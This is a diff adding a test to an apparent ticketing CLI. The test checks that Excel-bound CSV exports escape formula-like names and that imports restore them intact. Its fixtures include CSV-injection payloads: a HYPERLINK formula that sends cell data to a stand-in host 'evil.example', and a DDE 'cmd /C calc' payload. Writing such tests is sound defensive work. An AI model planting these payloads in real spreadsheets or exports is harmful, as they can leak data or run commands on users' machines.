@@ -94,3 +94,54 @@ test('of 100,000 rows with 37 faults every fault is named by line, and nothing i
   expect(named).toEqual([...faults.keys()]);
   expect(await place.json('audit', ...other)).toMatchObject({ tickets: 1 });
 }, 60_000);
+
+test('names that are formulas come back from an export for Excel as they were', async () => {
+  const names = [
+    '=HYPERLINK("http://evil.example/?"&A2,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=x",
+    '-1',
+  ];
+  const rows = names.map((name) => JSON.stringify({ type: 'single', firstName: name }));
+  writeFileSync(place.path('evil.jsonl'), rows.join('\n'));
+  const mint = [
+    'mint',
+    '--event',
+    'Summer pool',
+    '--from-json',
+    'evil.jsonl',
+    '--out',
+    'evil',
+    '--format',
+    'csv',
+  ];
+  await place.output(...mint, '--excel');
+  await place.output('tickets', 'export', '--excel', '--out', 'evil.csv');
+  await place.output(
+    'tickets',
+    'import',
+    'evil.csv',
+    '--create-events',
+    '--store',
+    'sqlite:./evil.db',
+  );
+  await place.output(
+    'tickets',
+    'import',
+    'evil/tickets.csv',
+    '--create-events',
+    '--store',
+    'sqlite:./minted.db',
+  );
+
+  for (const file of ['evil.csv', 'evil/tickets.csv']) {
+    expect(readFileSync(place.path(file), 'utf8')).not.toMatch(/(^|;)"?[=+@-]/mu);
+  }
+  for (const store of ['evil', 'minted']) {
+    const tickets = await place.json<{ holder: { firstName: string } | null }[]>(
+      ...['tickets', 'list', '--limit', '1000', '--store', `sqlite:./${store}.db`],
+    );
+    const found = tickets.map(({ holder }) => holder?.firstName);
+    expect(found).toEqual(expect.arrayContaining(names));
+  }
+});
